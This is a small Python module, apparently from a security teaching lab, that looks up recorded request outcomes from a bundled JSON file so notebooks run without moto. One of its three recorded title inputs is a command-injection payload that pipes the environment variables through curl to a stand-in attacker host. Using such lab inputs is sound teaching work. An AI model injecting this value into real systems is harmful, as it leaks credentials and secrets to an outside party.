"""What happened on a few requests, recorded: for machines without moto."""

from __future__ import annotations

import json
from functools import cache
from importlib import resources
from typing import Any, Final

_FILE: Final = "requests.json"
#: What is recorded: application, field, and the strings that the first notebook sends.
RECORDED: Final = (
    ("upload-chain", "title", "Ave Maria"),
    ("upload-chain", "title", "It's a long way"),
    ("upload-chain", "title", "x'; env | curl -sd @- https://attacker.example; '"),
)


def recorded_request(application: str, field: str, text: str) -> dict[str, Any] | None:
    """The hops, the parts of the drawing and the outcome that were recorded; None where this request was not."""
    return _all().get(key_of(application, field, text))


def key_of(application: str, field: str, text: str) -> str:
    """The name of a recording in the file."""
    return f"{application}/{field}/{text}"


@cache
def _all() -> dict[str, dict[str, Any]]:
    text = resources.files("sls_lab.widgets").joinpath("recorded", _FILE).read_text(encoding="utf-8")
    found: dict[str, dict[str, Any]] = json.loads(text)
    return found
